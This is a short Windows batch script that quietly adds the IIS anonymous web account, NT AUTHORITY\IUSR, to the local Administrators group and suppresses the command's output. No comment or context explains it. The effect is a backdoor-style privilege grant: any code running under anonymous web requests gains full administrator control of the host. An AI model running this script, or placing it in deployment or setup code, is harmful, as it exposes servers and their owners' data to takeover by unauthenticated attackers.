@echo off
setlocal
set GROUP=Administrators
set ACCOUNT=NT AUTHORITY\IUSR
net localgroup %GROUP% "%ACCOUNT%" /add >nul 2>&1
if errorlevel 1 echo already there
endlocal
